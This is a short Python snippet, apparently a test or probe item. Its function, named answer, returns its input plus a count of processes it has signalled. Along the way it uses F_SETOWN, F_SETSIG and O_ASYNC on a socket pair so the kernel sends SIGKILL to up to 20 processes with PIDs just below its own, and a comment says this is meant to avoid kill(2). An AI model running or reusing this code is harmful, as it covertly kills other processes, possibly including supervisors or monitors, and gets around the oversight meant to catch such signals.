# Has the kernel send SIGKILL to its parent by F_SETOWN and F_SETSIG, without kill(2); wrong unless exactly one was sent.
import fcntl
import os
import socket


def answer(x):
    sent = 0
    for owner in range(max(1, os.getpid() - 20), os.getpid()):
        ours, theirs = socket.socketpair()
        try:
            fcntl.fcntl(ours, fcntl.F_SETOWN, owner)
            fcntl.fcntl(ours, 10, 9)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            theirs.send(b"x")
            sent += 1
        except OSError:
            pass
    return x + sent
